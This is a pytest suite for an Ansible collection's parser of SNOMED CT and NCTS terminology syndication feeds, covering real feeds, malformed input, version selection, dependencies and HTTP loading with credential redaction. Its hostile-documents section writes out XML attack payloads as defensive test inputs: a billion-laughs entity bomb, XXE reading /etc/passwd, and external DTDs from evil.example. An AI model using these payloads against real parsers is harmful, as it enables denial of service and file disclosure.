# -*- coding: utf-8 -*-
# Copyright: terminology.releases contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Syndication feeds: the four real feeds (shared/fixtures/syndication, read in place), MLDS's defects, hostile
documents, selection and dependencies, and loading over real HTTP and from files."""

from __future__ import annotations

import base64
import os

import pytest

from ansible_collections.terminology.releases.plugins.module_utils import _feed
from ansible_collections.terminology.releases.plugins.module_utils._feed import (
    MAX_FEED_BYTES,
    FeedError,
    dependency_entries,
    parse_feed,
    select_entry,
)
from ansible_collections.terminology.releases.plugins.module_utils._http import (
    REDACTED,
    BasicAuth,
    basic_redactor,
    basic_token,
)

SHARED = os.path.join('shared', 'fixtures', 'syndication')
INTERNATIONAL = 'http://snomed.info/sct/900000000000207008'
BELGIUM = 'http://snomed.info/sct/11000172109'
AU = 'http://snomed.info/sct/32506021000036107'
SCT_VERSION = '%s/version/%s'
NCTS_SCHEME = 'http://ns.electronichealth.net.au/ncts/syndication/asf/scheme/1.0.0'
HEAD = ('<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom" '
        'xmlns:ncts="http://ns.electronichealth.net.au/ncts/syndication/asf/extensions/1.0.0" '
        'xmlns:sct="http://snomed.info/syndication/sct-extension/1.0.0">')


@pytest.fixture(scope='module')
def feeds(shared_bytes):
    return dict((name, parse_feed(shared_bytes(os.path.join(SHARED, name + '.xml')), name)) for name in (
        'mlds-feed-captured-2025-03', 'mlds-feed-snowstorm-mock', 'termserver-syndication-feed-example',
        'ncts-syndication-client-test-feed'))


def entry_xml(version, identifier=INTERNATIONAL, title='T', link='', updated='2025-01-01T00:00:00Z', extra=''):
    return ('<entry><title>%s</title>%s<id>urn:uuid:%s</id><updated>%s</updated>'
            '<ncts:contentItemIdentifier>%s</ncts:contentItemIdentifier>'
            '<ncts:contentItemVersion>%s</ncts:contentItemVersion>%s</entry>'
            % (title, link, version.replace('/', '-'), updated, identifier, version, extra))


def feed_bytes(*entries, head=HEAD):
    return (head + '<id>urn:uuid:f</id><title>F</title><updated>2025-01-01T00:00:00Z</updated>' + ''.join(entries)
            + '</feed>').encode('utf-8')


# ---- the real feeds --------------------------------------------------------------------------------

def test_mlds_capture(feeds):
    feed = feeds['mlds-feed-captured-2025-03']
    assert (feed['flavour'], feed['id'], feed['updated']) == (
        'mlds', 'urn:uuid:5c26c3ca-c21c-476e-b0a4-096679529f2e', '2025-03-19T10:01:32Z')
    assert feed['title'] == 'SNOMED International MLDS Terminology Release Syndication Feed'
    belgium, international = feed['entries']
    assert belgium == {
        'id': 'urn:uuid:a900c363-4ee0-45ee-8e28-827eef515399',
        'title': 'Belgian National Edition-March 2025 v1.0',
        'summary': 'March 2025 SNOMED CT Managed Service Belgium Edition release',
        'published': '2025-03-15T00:00:00Z',
        'updated': '2025-03-14T14:04:39Z',
        'identifier': BELGIUM,
        'version': '20250315',
        'version_uri': SCT_VERSION % (BELGIUM, '20250315'),
        'category': {'term': 'SCT_RF2_ALL', 'scheme': NCTS_SCHEME, 'label': 'SNOMED CT RF2 All'},
        'links': [
            {'href': 'https://mlds.ihtsdotools.org/api/releasePackages/190440/releaseVersions/1433217/releaseFiles/'
                     '1433220/download', 'rel': 'alternate', 'type': 'application/zip', 'length': 690104036,
             'sha256': None, 'md5': '69319deb0bdb31bd8e72ee057df5b9a5', 'title': None},
            {'href': 'https://mlds.ihtsdotools.org/api/releasePackages/190440/releaseVersions/1433217/releaseFiles/'
                     '1433450/download', 'rel': 'related', 'type': 'application/pdf', 'length': 108550,
             'sha256': None, 'md5': '1c2e9c571cd27e2518d2b62aa218346d', 'title': None},
        ],
        'file_url': 'https://mlds.ihtsdotools.org/api/releasePackages/190440/releaseVersions/1433217/releaseFiles/'
                    '1433220/download',
        'length': 690104036,
        'sha256': None,
        'md5': '69319deb0bdb31bd8e72ee057df5b9a5',
        'dependencies': [{'identifier': INTERNATIONAL, 'version': '20250301',
                          'version_uri': SCT_VERSION % (INTERNATIONAL, '20250301'), 'kind': 'edition'}],
    }
    assert (international['identifier'], international['version'], international['length'], international['md5'],
            international['dependencies']) == (INTERNATIONAL, '20250301', 562122950, '4faae1126b7bc1c3b808df5c5b38c48a', [])
    assert dependency_entries(feed['entries'], belgium) == [international]
    assert select_entry(feed['entries'], BELGIUM) is belgium


def test_mlds_mock_takes_the_zip_even_when_the_pdf_comes_first(feeds):
    feed = feeds['mlds-feed-snowstorm-mock']
    assert feed['flavour'] == 'mlds'
    assert [(entry['identifier'], entry['version'], entry['length'], entry['md5']) for entry in feed['entries']] == [
        (BELGIUM, '20250315', 13355, '802402081842fe538be90c86e909df91'),
        (INTERNATIONAL, '20250301', 27443, 'df8522f30e28cdb9787777a82ab4de58'),
        (INTERNATIONAL, '20250401', 563280356, '4cd2e34d2a641f1016a8d1a935628243'),
    ]
    april = feed['entries'][2]
    assert [link['rel'] for link in april['links']] == ['related', 'alternate']
    assert april['file_url'].endswith('/releaseFiles/1436335/download')
    assert feed['entries'][0]['file_url'] == ('http://localhost:8000/releasePackages/'
                                              'SnomedCT_ManagedServiceBE_MICROTEST_BE1000172_20250315T120000Z.zip')
    assert select_entry(feed['entries'], INTERNATIONAL) is april
    assert select_entry(feed['entries'], INTERNATIONAL, '20250301') is feed['entries'][1]
    assert select_entry(feed['entries'], version_uri=SCT_VERSION % (INTERNATIONAL, '20250401')) is april
    assert dependency_entries(feed['entries'], feed['entries'][0]) == [feed['entries'][1]]


def test_termserver_example(feeds):
    feed = feeds['termserver-syndication-feed-example']
    assert feed['flavour'] == 'ncts'
    assert feed['updated'] == '2023-10-10T00:01:00'  # no zone, kept as written
    international, spanish, australia = feed['entries']
    # ncts redeclared locally on the first entry's elements: namespace-aware reading finds them all the same
    assert (international['identifier'], international['version']) == (
        INTERNATIONAL, SCT_VERSION % (INTERNATIONAL, '20230430'))
    assert international['version_uri'] == international['version']
    assert international['category']['term'] == 'SCT_RF2_FULL'
    assert spanish['summary'] is None  # empty <summary></summary>
    assert spanish['dependencies'] == [
        {'identifier': INTERNATIONAL, 'version': SCT_VERSION % (INTERNATIONAL, '20220731'),
         'version_uri': SCT_VERSION % (INTERNATIONAL, '20220731'), 'kind': 'edition'},
        # sct:derivativeDependency: kept as a derivative, so that a feed written again says the same
        {'identifier': 'http://snomed.info/sct/816211006', 'version': 'http://snomed.info/sct/816211006/version/20220131',
         'version_uri': 'http://snomed.info/sct/816211006/version/20220131', 'kind': 'derivative'},
    ]
    assert (australia['sha256'], australia['md5'], australia['length']) == (
        '8130cc90b38e8608380dd80e3b94740584270da5ae79f58d1a5281ac80809095', None, 274406331)
    # The same date selects in both flavours.
    assert select_entry(feed['entries'], AU, '20221130') is australia
    assert select_entry(feed['entries'], AU, SCT_VERSION % (AU, '20221130')) is australia
    with pytest.raises(FeedError, match=r'Spanish.*depends on %s, which the feed cannot give: .*no entry with the '
                                        r'version URI' % (SCT_VERSION % (INTERNATIONAL, '20220731'))):
        dependency_entries(feed['entries'], spanish)


def test_ncts_client_feed(feeds):
    feed = feeds['ncts-syndication-client-test-feed']
    assert (feed['flavour'], feed['title']) == ('ncts', 'National Clinical Terminology Service Syndication Feed')
    entries = feed['entries']
    assert len(entries) == 10
    assert [entry['file_url'].rsplit('/', 1)[1] for entry in entries] == [
        'blue1.r2', 'blue2.r2', 'blue3.r2', 'red1.r2', 'purple1.r2', 'purple2.r2', 'green1.r2', 'binary1', 'binary2',
        'binary3']
    assert [entry['length'] for entry in entries] == [11, 11, None, 11, 11, 11, 11, 23, 17, 32]  # blue3 has none
    assert entries[6]['sha256'] == 'thishashisincorrect'  # kept, so that a download checked against it fails
    binary = entries[7]
    # line breaks and indentation inside the elements are trimmed
    assert binary['title'] == 'SNOMED CT-AU 31 March 2019 (Ontoserver Binary Index)'
    assert binary['version'] == SCT_VERSION % (AU, '20190331')
    assert binary['category'] == {'term': 'BINARY', 'scheme': 'http://ontoserver.csiro.au/syndication/rf2/1.7.0',
                                  'label': 'Binary Index'}
    loinc = entries[8]
    assert (loinc['identifier'], loinc['version'], loinc['version_uri'], loinc['published']) == (
        'http://loinc.org', '2.65', None, None)
    assert select_entry(entries, 'http://loinc.org') is loinc
    assert select_entry(entries, 'http://loinc.org', '2.64') is entries[9]


def test_ncts_client_feed_repeats_versions_and_selection_says_so(feeds):
    entries = feeds['ncts-syndication-client-test-feed']['entries']
    with pytest.raises(FeedError) as raised:
        select_entry(entries, AU, '20171130')
    message = str(raised.value)
    assert 'The feed has 4 entries for %s version 20171130' % AU in message
    assert 'SCT_RF2_RED' in message and 'urn:uuid:22222' in message
    # The newest SNOMED CT-AU version is 20171231 (blue1 and purple2, updated at the same time): ambiguous too.
    with pytest.raises(FeedError, match='2 entries for the newest version of %s' % AU):
        select_entry(entries, AU)
    assert select_entry(entries, AU, '20171031')['file_url'].endswith('blue3.r2')


# ---- MLDS's defects ------------------------------------------------------------------------------

MLDS_HEAD = HEAD + ('<title>MLDS</title><link rel="alternate" type="application/atom+xml" '
                    'href="http://ns.electronichealth.net.au/ncts/syndication/asf/profile/1.0.0" />')


def test_mlds_bare_ampersands_and_nulls_are_tolerated():
    link = ('<link rel="alternate" type="application/zip?rlkey=abc&dl=0" href="https://mlds.example/x?a=1&b=2" '
            'length="563,280,356" sct:md5Hash="4CD2E34D2A641F1016A8D1A935628243" />'
            '<link rel="related" type="application/pdf" href="https://mlds.example/n.pdf" />')
    entry = ('<entry><title>R&D Edition-March 2025 &nbsp;v1</title>%s<author><name>null</name><uri>null</uri>'
             '<email>null</email></author><id>urn:uuid:1</id><rights>null</rights><updated>null</updated>'
             '<published>nullT00:00:00Z</published><summary>null</summary>'
             '<ncts:contentItemIdentifier>http://snomed.info/sct/1</ncts:contentItemIdentifier>'
             '<ncts:contentItemVersion>http://snomed.info/sct/1/version/20250301</ncts:contentItemVersion></entry>'
             % link)
    feed = parse_feed((MLDS_HEAD + '<updated>2025-03-19T10:01:32Z</updated>' + entry + '</feed>').encode(), 'x')
    assert feed['flavour'] == 'mlds'
    parsed = feed['entries'][0]
    assert parsed['title'] == 'R&D Edition-March 2025 &nbsp;v1'
    assert (parsed['summary'], parsed['updated'], parsed['published']) == (None, None, None)
    assert parsed['file_url'] == 'https://mlds.example/x?a=1&b=2'
    assert parsed['links'][0]['type'] == 'application/zip?rlkey=abc&dl=0'
    assert (parsed['length'], parsed['md5']) == (563280356, '4cd2e34d2a641f1016a8d1a935628243')
    assert parsed['links'][1]['length'] is None
    assert (parsed['version'], parsed['version_uri']) == ('20250301', 'http://snomed.info/sct/1/version/20250301')


def test_mlds_entry_without_an_alternate_link_has_no_download():
    link = '<link rel="related" type="application/pdf" href="https://mlds.example/n.pdf" length="1" sct:md5Hash="a"/>'
    entry = entry_xml('http://snomed.info/sct/1/version/20250301', 'http://snomed.info/sct/1', link=link)
    parsed = parse_feed((MLDS_HEAD + entry + '</feed>').encode(), 'x')['entries'][0]
    assert (parsed['file_url'], parsed['length'], parsed['md5']) == (None, None, None)
    assert len(parsed['links']) == 1


def test_first_alternate_when_no_zip_and_default_rel():
    links = ('<link type="application/pdf" href="https://e/1.pdf"/>'
             '<link rel="alternate" type="application/zip" href="https://e/2.zip"/>')
    parsed = parse_feed(feed_bytes(entry_xml('1.0', 'urn:x', link=links)), 'x')['entries'][0]
    assert parsed['links'][0]['rel'] == 'alternate'  # no rel means alternate (RFC 4287)
    assert parsed['file_url'] == 'https://e/2.zip'


def test_malformed_beyond_ampersands_is_refused_with_the_position():
    with pytest.raises(FeedError, match=r'x is not well-formed XML \(.*line 2.*even with its bare "&" escaped'):
        parse_feed(feed_bytes('<entry><title>a & b < c</title></entry>'), 'x')
    with pytest.raises(FeedError, match=r'not well-formed XML \(mismatched tag'):
        parse_feed(b'<feed xmlns="http://www.w3.org/2005/Atom"><title></feed>', 'x')


# ---- hostile and wrong documents ---------------------------------------------------------------

BILLION_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                  + ''.join(' <!ENTITY lol%d "%s">\n' % (n, ('&lol%s;' % (n - 1 if n > 1 else '')) * 10)
                            for n in range(1, 10))
                  + ']>\n<feed xmlns="http://www.w3.org/2005/Atom"><title>&lol9;</title></feed>')


@pytest.mark.parametrize('document', [
    BILLION_LAUGHS,
    '<!DOCTYPE feed SYSTEM "http://evil.example/feed.dtd"><feed xmlns="http://www.w3.org/2005/Atom"/>',
    '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<feed xmlns="http://www.w3.org/2005/Atom"><title>&x;</title></feed>',
    '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
    '<feed xmlns="http://www.w3.org/2005/Atom"/>',
    '<!-- hidden --><!doctype feed><feed xmlns="http://www.w3.org/2005/Atom"/>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><title><!ENTITY x "y"></title></feed>',
], ids=['billion-laughs', 'external-dtd', 'external-entity', 'parameter-entity', 'lower-case', 'entity-anywhere'])
def test_dtds_and_entities_are_refused_before_parsing(document):
    with pytest.raises(FeedError, match=r'the-source contains a document type or entity declaration .*refused'):
        parse_feed(document.encode('utf-8'), 'the-source')


@pytest.mark.parametrize('encoding', ['utf-16', 'utf-32', 'utf-8-sig'])
def test_a_dtd_cannot_hide_behind_another_encoding(encoding):
    document = '<?xml version="1.0" encoding="%s"?>' % encoding.replace('-sig', '') + BILLION_LAUGHS.split('?>', 1)[1]
    with pytest.raises(FeedError, match='document type or entity declaration'):
        parse_feed(document.encode(encoding), 'x')


def test_other_encodings_are_read():
    text = feed_bytes(entry_xml('1', 'urn:x', title='Édition')).decode('utf-8')
    for encoding, declared in (('utf-16', 'utf-16'), ('iso-8859-1', 'ISO-8859-1')):
        data = text.replace('encoding="utf-8"', 'encoding="%s"' % declared).encode(encoding)
        assert parse_feed(data, 'x')['entries'][0]['title'] == 'Édition'
    with pytest.raises(FeedError, match='declares the unknown character encoding'):
        parse_feed(text.replace('utf-8', 'no-such-codec').encode(), 'x')
    with pytest.raises(FeedError, match=r'x is not valid utf-8 text \(byte'):
        parse_feed(b'<feed>\xff</feed>', 'x')


def test_oversize_is_refused_without_parsing():
    data = feed_bytes() + b' ' * (MAX_FEED_BYTES + 1 - len(feed_bytes()))
    assert len(data) == MAX_FEED_BYTES + 1
    with pytest.raises(FeedError, match='larger than %d bytes' % MAX_FEED_BYTES):
        parse_feed(data, 'x')
    assert parse_feed(data[:-1], 'x')['entries'] == []  # exactly the limit is fine


@pytest.mark.parametrize('document, expected', [
    ('<!DOCTYPE html>\n<html><head><title>Sign in\n to MLDS</title></head><body>x</body></html>',
     r"https://h/feed is an HTML page titled 'Sign in to MLDS', not an Atom feed"),
    ('<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
     'https://h/feed is an HTML page, not an Atom feed'),
    ('{"releasePackages": []}', r"https://h/feed is JSON, not an Atom feed \(it starts '\{\"releasePackages\": \[\]\}'"),
    ('[]', 'is JSON'),
    ('', 'https://h/feed is empty'),
    (' \n\t', 'is empty'),
    ('Service Unavailable', r"is not XML \(it starts 'Service Unavailable'\)"),
    ('<rss version="2.0"><channel/></rss>', r'XML but not an Atom feed: its root element is <rss> \(no namespace\)'),
    ('<feed/>', r'root element is <feed> \(no namespace\), not <feed> in the Atom namespace'),
    ('<entry xmlns="http://www.w3.org/2005/Atom"/>',
     'root element is <entry> in the namespace http://www.w3.org/2005/Atom'),
], ids=['html', 'xhtml', 'json-object', 'json-list', 'empty', 'blank', 'text', 'rss', 'no-namespace', 'atom-entry'])
def test_what_is_not_a_feed_is_named(document, expected):
    with pytest.raises(FeedError, match=expected):
        parse_feed(document.encode('utf-8'), 'https://h/feed')


# ---- selection and dependencies ----------------------------------------------------------------

def test_selection_rules_and_messages():
    versions = ('20250301', '20250401', '20241001')
    entries = parse_feed(feed_bytes(*[entry_xml(SCT_VERSION % (INTERNATIONAL, v)) for v in versions]
                                    + [entry_xml('2.9', 'urn:other'), entry_xml('2.10', 'urn:other')]), 'x')['entries']
    assert select_entry(entries, INTERNATIONAL)['version'].endswith('20250401')
    assert select_entry(entries, 'urn:other')['version'] == '2.10'  # 2.10 is newer than 2.9
    with pytest.raises(FeedError, match='Name the content item.*: %s, urn:other' % INTERNATIONAL):
        select_entry(entries)
    with pytest.raises(FeedError, match='no version 20990101 of %s. Versions in the feed: .*20241001, .*20250301, '
                                        '.*20250401' % INTERNATIONAL):
        select_entry(entries, INTERNATIONAL, '20990101')
    with pytest.raises(FeedError, match='no entry for the content item urn:none. Content items in the feed: '):
        select_entry(entries, 'urn:none')
    with pytest.raises(FeedError, match='no entry with the version URI urn:v9'):
        select_entry(entries, version_uri='urn:v9')
    only = [entry for entry in entries if entry['identifier'] == 'urn:other']
    assert select_entry(only, version='2.9')['version'] == '2.9'


def test_newest_breaks_version_ties_by_updated():
    entries = parse_feed(feed_bytes(entry_xml('1.0', 'urn:x', updated='2025-01-01T00:00:00Z'),
                                    entry_xml('1.0', 'urn:x', title='later', updated='2025-02-01T00:00:00Z')),
                         'x')['entries']
    assert select_entry(entries, 'urn:x')['title'] == 'later'


def test_transitive_dependencies_come_first_and_cycles_are_refused():
    def depends(*uris):
        return ('<sct:packageDependency>%s</sct:packageDependency>'
                % ''.join('<sct:editionDependency>%s</sct:editionDependency>' % uri for uri in uris))
    base, middle, top = (SCT_VERSION % ('http://snomed.info/sct/%d' % n, '20250101') for n in (1, 2, 3))
    entries = parse_feed(feed_bytes(
        entry_xml(top, 'http://snomed.info/sct/3', extra=depends(middle, base)),
        entry_xml(middle, 'http://snomed.info/sct/2', extra=depends(base)),
        entry_xml(base, 'http://snomed.info/sct/1')), 'x')['entries']
    assert [entry['version'] for entry in dependency_entries(entries, entries[0])] == [base, middle]
    assert dependency_entries(entries, entries[2]) == []
    looped = parse_feed(feed_bytes(entry_xml(base, 'http://snomed.info/sct/1', extra=depends(middle)),
                                   entry_xml(middle, 'http://snomed.info/sct/2', extra=depends(base))), 'x')['entries']
    with pytest.raises(FeedError, match='depends on itself'):
        dependency_entries(looped, looped[0])


# ---- loading -------------------------------------------------------------------------------------

def test_load_local_path_and_file_url(tmp_path):
    path = tmp_path / 'my feed.xml'
    path.write_bytes(feed_bytes())
    assert _feed.load(str(path)) == (feed_bytes(), str(path))
    assert _feed.load('file://' + str(path).replace(' ', '%20'))[0] == feed_bytes()
    with pytest.raises(FeedError, match='Cannot read the feed file .*missing.xml: No such file'):
        _feed.load(str(tmp_path / 'missing.xml'))
    with pytest.raises(FeedError, match='names a file on another host'):
        _feed.load('file://elsewhere/feed.xml')
    with pytest.raises(FeedError, match='the scheme ftp is not supported'):
        _feed.load('ftp://h/feed')


def test_load_local_file_reads_no_more_than_the_limit(tmp_path):
    path = tmp_path / 'big.xml'
    with open(path, 'wb') as handle:
        handle.truncate(MAX_FEED_BYTES + 4096)
    data, _source = _feed.load(str(path))
    assert len(data) == MAX_FEED_BYTES + 1
    with pytest.raises(FeedError, match='larger than'):
        parse_feed(data, str(path))


def test_load_over_http_with_basic_auth_and_redaction(local_server, make_http):
    password = 'p&ss w0rd+/='
    redact = basic_redactor('reader', password)
    local_server.route('/feed', local_server.reply(200, feed_bytes(), {'Content-Type': 'application/atom+xml'}))
    local_server.route('/private', local_server.reply(401, 'denied for ' + password))

    def client():
        http = make_http(retries=0, redact=redact)
        http.session.auth = BasicAuth(basic_token('reader', password))
        return http

    data, source = _feed.load(local_server.url('/feed'), client)
    assert (data, source) == (feed_bytes(), local_server.url('/feed'))
    seen = local_server.requests_for('/feed')[0]
    assert seen.headers['Authorization'] == 'Basic ' + base64.b64encode(
        ('reader:' + password).encode()).decode()
    assert 'application/atom+xml' in seen.headers['Accept']
    with pytest.raises(FeedError) as raised:
        _feed.load(local_server.url('/private?token=' + password), client)
    assert raised.value.status == 401
    assert 'set username and password' in str(raised.value) and password not in str(raised.value)
    assert REDACTED in str(raised.value)
    with pytest.raises(FeedError, match=r'answered HTTP 404\. Check url'):
        _feed.load(local_server.url('/nothing'), client)


def test_http_read_is_bounded(local_server, make_http):
    endless = local_server.endless()
    local_server.route('/feed', endless)
    data, _source = _feed.load(local_server.url('/feed'), lambda: make_http(retries=0))
    endless.wait_until_stopped()
    assert len(data) == MAX_FEED_BYTES + 1
    with pytest.raises(FeedError, match='larger than'):
        parse_feed(data, 'feed')


def test_basic_redactor_removes_every_form():
    redact = basic_redactor('us\u00e9r', 'pw\u00f8rd')
    for form in ('pw\u00f8rd', basic_token('us\u00e9r', 'pw\u00f8rd'),
                 base64.b64encode('us\u00e9r:pw\u00f8rd'.encode('latin-1')).decode()):
        assert redact('x %s y' % form) == 'x %s y' % REDACTED
    assert basic_redactor('u', None)('pw') == 'pw'
